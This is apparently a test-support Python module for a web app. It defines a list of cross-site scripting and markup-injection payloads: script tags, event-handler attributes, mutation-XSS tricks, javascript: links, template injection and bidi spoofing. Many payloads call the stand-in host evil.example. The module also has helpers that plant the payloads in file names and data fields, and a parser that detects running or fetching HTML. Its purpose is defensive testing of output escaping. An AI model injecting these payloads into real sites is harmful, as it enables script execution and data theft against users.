"""Markup and script that texts, titles, file names, mails, model output, questions and uploads bring to the pages.

Each payload, where it ran, would set `window.hostile`, open a dialog, or ask evil.example: the fixture `visit` fails on
the dialogs and requests, and `browsing.harmless` on the rest. None of them is shown as anything but text. `PAYLOADS`
are all; `names()` are those that a file on this system can be called. `filled` puts one into every text of a value, and
`risks` finds what it would do in HTML.
"""

import re
from collections.abc import Collection, Mapping, Sequence
from dataclasses import fields, is_dataclass
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from types import NoneType, UnionType
from typing import Any, Literal, Union, get_args, get_origin, get_type_hints

from typing_extensions import TypeAliasType

_RUN = "window.hostile=1;alert(1)"
_ASK = "http://evil.example:9"

PAYLOADS = (
    # tags that run
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={_ASK}/a.js></sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload='{_RUN}'>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<details open ontoggle={_RUN}>x</details>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"</textarea></title></style></script><script>{_RUN}</script>",
    f"<template><img src=x onerror={_RUN}></template>",
    # tags that ask another server
    f"<img src={_ASK}/pixel.png>",
    f'<link rel=stylesheet href="{_ASK}/a.css">',
    f'<style>@import "{_ASK}/b.css"; body {{ background: url({_ASK}/c.png) }}</style>',
    f'<meta http-equiv=refresh content="0;url={_ASK}/away">',
    f'<base href="{_ASK}/">',
    f'<object data="{_ASK}/o.swf"></object><embed src="{_ASK}/e.swf">',
    f'<form action="{_ASK}/"><button autofocus>Send</button></form>',
    f'<a href="{_ASK}/" ping="{_ASK}/ping">a link</a>',
    # links and images in Markdown, and what Streamlit's Markdown knows
    f"[click](javascript:{_RUN})",
    f"![pixel]({_ASK}/d.png)",
    f"<javascript:{_RUN}>",
    f"[ref]: {_ASK}/ref\n![ref]",
    f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) {_ASK}/bare",
    ":material/delete: :red[red] :smile: $\\href{javascript:alert(1)}{x}$ $$\\sum_1^2$$",
    f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | ![p]({_ASK}/e.png) |",
    # attributes, comments, entities, templates
    f'" onmouseover="{_RUN}" style="position:fixed;inset:0" autofocus onfocus="{_RUN}" x="',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    f"<!-- --><img src=x onerror={_RUN}> --><![CDATA[<script>{_RUN}</script>]]>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> {window.hostile}",
    # what changes how the neighbours look
    f"\u202etxt.exe\u202c \u2066<img src=x onerror={_RUN}>\u2069 \u200b\u00ad",
    f"fn-1-1' id='fn-1-1' <mark id=fn-1-1><a href=#fn-1-1 onclick={_RUN}>[1]</a></mark> [1] [999]",
)


def names(ending: str = "") -> list[str]:
    """Return the payloads as names of files: without the characters that end a name, and not too long."""
    cleaned = (text.replace("/", "\u2215").replace("\n", " ").replace("\0", "") for text in PAYLOADS)
    return [text.encode()[: 200 - len(ending)].decode(errors="ignore") + ending for text in cleaned]


def filled(kind: Any, payload: str, name: str = "", within: tuple[Any, ...] = ()) -> Any:
    """Return a value of a type, in which every text is the payload, however deep: fields that come later too.

    Args:
        kind: A frozen dataclass, or the annotation of one of its fields.
        payload: The text.
        name: Of the field: "start" and "end" enclose the payload, so that what is cut out of a text is not empty.
        within: Types that it is part of; none of them is filled once more.
    """
    origin, inside = get_origin(kind), get_args(kind)
    if is_dataclass(kind):
        hints = get_type_hints(kind)
        return kind(
            **{
                one.name: filled(hints[one.name], payload, one.name, (*within, kind))
                for one in fields(kind)
                if one.init
            }
        )  # type: ignore[operator]
    if origin is Literal:
        return inside[0]
    if origin in (Union, UnionType):
        return filled(next(one for one in inside if one is not NoneType), payload, name, within)
    if origin is tuple:
        if name == "spans" or inside == (int, int):
            return ((0, len(payload)),) if inside != (int, int) else (0, len(payload))
        return tuple(filled(one, payload, within=within) for one in inside if one is not Ellipsis and one not in within)
    if origin in (Mapping, dict):
        return {payload: filled(inside[1], payload, within=within)}
    if origin in (Sequence, list, frozenset):
        return (origin if origin is frozenset else list)([filled(inside[0], payload, within=within)])
    if isinstance(kind, TypeAliasType):
        return filled(kind.__value__, payload, name, within)
    plain = {str: payload, bool: True, float: 0.5, bytes: payload.encode(), datetime: datetime(2026, 1, 2, tzinfo=UTC)}
    if kind in (date, object, Any):
        return date(2026, 1, 2) if kind is date else payload
    return plain[kind] if kind in plain else {"start": 0, "statement": 0, "end": len(payload)}.get(name, 1)


class _Risks(HTMLParser):
    """Collects what a browser would run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        own = values.get("src", "").startswith(("/", "data:image/png"))
        if tag in _RUNNING or (tag in ("script", "img") and not own) or values.get("id", "").startswith("fn-1-1'"):
            self.found.append(self.get_starttag_text() or tag)
        for name, value in values.items():
            leads = name in _LEADING and re.match(r"\s*(javascript|data:text|vbscript)", value, re.IGNORECASE)
            if name.startswith("on") or leads or (name == "style" and re.search(r"url\(|fixed", value)):
                self.found.append(f"{tag} {name}={value}")


_RUNNING = frozenset(
    {"iframe", "object", "embed", "base", "form", "svg", "math", "video", "audio", "input", "body", "template"}
)
_LEADING = ("href", "src", "action", "formaction", "ping", "poster", "srcdoc")


def risks(html: str, *, own: Collection[str] = ()) -> list[str]:
    """Return the elements and attributes of HTML that a payload alone could have brought; `own` tags belong to it."""
    seen = _Risks()
    seen.feed(html)
    seen.close()
    return [one for one in seen.found if not any(one.lower().startswith((f"<{tag}", f"{tag} ")) for tag in own)]
